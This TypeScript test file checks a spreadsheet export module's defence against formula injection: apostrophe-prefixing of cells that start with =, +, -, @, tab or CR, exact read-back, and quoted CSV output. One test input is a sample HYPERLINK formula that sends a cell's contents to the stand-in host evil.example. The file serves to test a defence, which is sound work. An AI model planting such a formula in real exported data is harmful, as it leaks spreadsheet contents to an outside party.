import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { defuseFormula, readDefused, toCsv } from './spreadsheet'

const DANGEROUS = /^[=+\-@\t\r]/

describe('the formula rule of the files the owner opens in Excel', () => {
  it('puts an apostrophe before a text that starts like a formula, and nothing else', () => {
    expect(defuseFormula('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
    )
    for (const text of ['+7 912', '-5', '@SUM(A1)', '\tx', '\rx']) expect(defuseFormula(text)).toBe(`'${text}`)
    // An apostrophe already there before a dangerous character gets one more, so reading is exact.
    expect(defuseFormula("'=1")).toBe("''=1")
    for (const text of ['Дрель', "'80-е", "'", '', '5-10', 'a=b']) expect(defuseFormula(text)).toBe(text)
  })

  it('reads a defused cell back to its value and leaves every other text as it is', () => {
    expect(readDefused("'=1+1")).toBe('=1+1')
    expect(readDefused("''=1")).toBe("'=1")
    expect(readDefused("'80-е")).toBe("'80-е")
    expect(readDefused("'")).toBe("'")
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1', ' ') }), (text) => {
        const cell = defuseFormula(text)
        expect(DANGEROUS.test(cell)).toBe(false)
        expect(readDefused(cell)).toBe(text)
      }),
      { numRuns: 2000 },
    )
  })

  it('writes CSV cells quoted and defused', () => {
    const csv = toCsv([['name', 'Имя']], [{ name: '=1+1' }, { name: '-x' }, { name: 'Иван "И"' }])
    expect(csv).toBe(`\uFEFF"Имя"\r\n"'=1+1"\r\n"'-x"\r\n"Иван ""И"""\r\n`)
  })
})
